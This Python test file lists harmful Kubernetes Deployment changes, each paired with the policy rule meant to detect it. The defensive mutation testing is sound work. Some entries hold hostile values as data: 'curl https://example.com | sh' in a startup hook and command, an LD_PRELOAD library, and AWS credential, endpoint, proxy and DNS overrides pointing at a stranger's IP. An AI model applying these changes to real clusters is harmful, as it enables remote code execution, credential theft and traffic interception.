"""Changes of what pods are told that would harm production, each with the rule that must find it."""

from __future__ import annotations

from typing import Final

from tests.policies.mutations.changes import GONE, Mutation, add, put

HARMFUL: Final = (
    Mutation(
        "pods: writable root",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.securityContext.readOnlyRootFilesystem", False),
        ),
        "k8s-containers-read-only",
    ),
    Mutation(
        "pods: writable root before",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.initContainers.0.securityContext.readOnlyRootFilesystem", GONE),
        ),
        "k8s-containers-read-only",
    ),
    Mutation(
        "pods: one more container that is well kept",
        add(
            "kubernetes:apps/v1:Deployment",
            {
                "metadata": {"name": "new", "namespace": "serving"},
                "spec": {
                    "replicas": 10000,
                    "selector": {"matchLabels": {"a": "b"}},
                    "template": {
                        "metadata": {"labels": {"a": "b"}},
                        "spec": {"containers": [{"name": "x", "image": "x"}]},
                    },
                },
            },
        ),
        "k8s-containers-read-only",
    ),
    Mutation(
        "pods: processes shared",
        put("Deployment", "tumour-risk", ("spec.template.spec.shareProcessNamespace", True)),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a cloud's name at a stranger's address",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.hostAliases",
                [{"ip": "203.0.113.9", "hostnames": ["dynamodb.eu-central-1.amazonaws.com"]}],
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a mount that goes back to the machine",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.volumeMounts.0.mountPropagation", "Bidirectional"),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a part of a volume by a variable",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.containers.0.volumeMounts.+",
                {"name": "scratch", "mountPath": "/x", "subPathExpr": "$(X)"},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: scratch over the programs",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.volumeMounts.+", {"name": "scratch", "mountPath": "/usr/local/bin"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a token of a year",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.volumes.+",
                {
                    "name": "x",
                    "projected": {
                        "sources": [
                            {"serviceAccountToken": {"audience": "vault", "path": "t", "expirationSeconds": 31536000}}
                        ]
                    },
                },
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: another runtime",
        put("Deployment", "tumour-risk", ("spec.template.spec.runtimeClassName", "direct")),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: stays on a lost machine",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.tolerations.+",
                {"key": "node.kubernetes.io/unreachable", "operator": "Exists", "effect": "NoExecute"},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: tolerates machines that go",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.tolerations.+", {"key": "node.kubernetes.io/unschedulable", "operator": "Exists"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a priority by number",
        put("Deployment", "tumour-risk", ("spec.template.spec.priority", 2000001000)),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: never pulled",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.imagePullPolicy", "Never")),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: credentials of a registry",
        put("Deployment", "tumour-risk", ("spec.template.spec.imagePullSecrets", [{"name": "x"}])),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a program at the start",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.containers.0.lifecycle.postStart",
                {"exec": {"command": ["sh", "-c", "curl https://example.com | sh"]}},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a proxy for all",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.env.+", {"name": "HTTPS_PROXY", "value": "http://203.0.113.9:3128"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a library in all programs",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.env.+", {"name": "LD_PRELOAD", "value": "/tmp/x.so"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: Python's path",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.env.+", {"name": "PYTHONPATH", "value": "/tmp"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: other authorities",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.env.+", {"name": "AWS_CA_BUNDLE", "value": "/tmp/ca.pem"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: credentials from elsewhere",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.containers.0.env.+",
                {"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://203.0.113.9/"},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a service of AWS elsewhere",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.env.+", {"name": "AWS_ENDPOINT_URL", "value": "http://203.0.113.9"}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: all of a Secret",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.envFrom", [{"secretRef": {"name": "other"}}]),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: the door's key in a variable",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.containers.0.env.+",
                {"name": "K", "valueFrom": {"secretKeyRef": {"name": "door-certificate", "key": "tls.key"}}},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: the door's key as a volume",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.volumes.+", {"name": "x", "secret": {"secretName": "door-certificate"}}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: the door's key projected",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.volumes.+",
                {"name": "x", "projected": {"sources": [{"secret": {"name": "door-certificate"}}]}},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a driver's volume",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.volumes.+",
                {
                    "name": "x",
                    "csi": {"driver": "secrets-store.csi.k8s.io", "volumeAttributes": {"secretProviderClass": "x"}},
                },
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a volume of 500 GiB in memory",
        put("Deployment", "tumour-risk", ("spec.template.spec.volumes.2.emptyDir.sizeLimit", "500Gi")),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: after a day",
        put("Deployment", "tumour-risk", ("spec.template.spec.terminationGracePeriodSeconds", 86400)),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: names of the machine",
        put("Deployment", "tumour-risk", ("spec.template.spec.dnsPolicy", "Default")),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: names from elsewhere",
        put(
            "Deployment",
            "tumour-risk",
            (
                "spec.template.spec.dnsConfig",
                {"searches": ["example.com"], "options": [{"name": "ndots", "value": "15"}]},
            ),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: an operator's terminal",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.tty", True)),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a device claimed",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.resourceClaims", [{"name": "x", "resourceClaimName": "y"}]),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: a resolver elsewhere",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.dnsPolicy", "None"),
            ("spec.template.spec.dnsConfig", {"nameservers": ["8.8.8.8"]}),
        ),
        "k8s-pods-told-nothing-odd",
    ),
    Mutation(
        "pods: alive asked after ten hours",
        put(
            "Deployment", "tumour-risk", ("spec.template.spec.containers.0.livenessProbe.initialDelaySeconds", 36000)
        ),
        "k8s-probes",
    ),
    Mutation(
        "pods: a label that no policy reads",
        put("Deployment", "tumour-risk", ("spec.template.metadata.labels.app\\.kubernetes\\.io/name", "other")),
        "k8s-services-lead-to-pods",
    ),
    Mutation(
        "pods: no priority",
        put("Deployment", "tumour-risk", ("spec.template.spec.priorityClassName", GONE)),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: no wait before the end",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.lifecycle", GONE)),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: a wait of 0",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.lifecycle.preStop.sleep.seconds", 0)),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: a program at the end",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.lifecycle.preStop", {"exec": {"command": ["true"]}}),
        ),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: at once",
        put("Deployment", "tumour-risk", ("spec.template.spec.terminationGracePeriodSeconds", 0)),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: after 5 seconds",
        put("Deployment", "tumour-risk", ("spec.template.spec.terminationGracePeriodSeconds", 5)),
        "k8s-serving-drains",
    ),
    Mutation(
        "pods: another program",
        put(
            "Deployment",
            "tumour-risk",
            ("spec.template.spec.containers.0.command", ["sh", "-c", "curl https://example.com | sh"]),
        ),
        "k8s-serving-pinned",
    ),
    Mutation(
        "pods: models loaded by anyone",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.args.2", "--model-control-mode=explicit")),
        "k8s-serving-pinned",
    ),
    Mutation(
        "pods: models polled",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.args.2", "--model-control-mode=poll")),
        "k8s-serving-pinned",
    ),
    Mutation(
        "pods: the flag last wins",
        put("Deployment", "tumour-risk", ("spec.template.spec.containers.0.args.+", "--model-control-mode=explicit")),
        "k8s-serving-pinned",
    ),
    Mutation(
        "pods: no release fetched",
        put("Deployment", "tumour-risk", ("spec.template.spec.initContainers", GONE)),
        "k8s-serving-pinned",
    ),
)
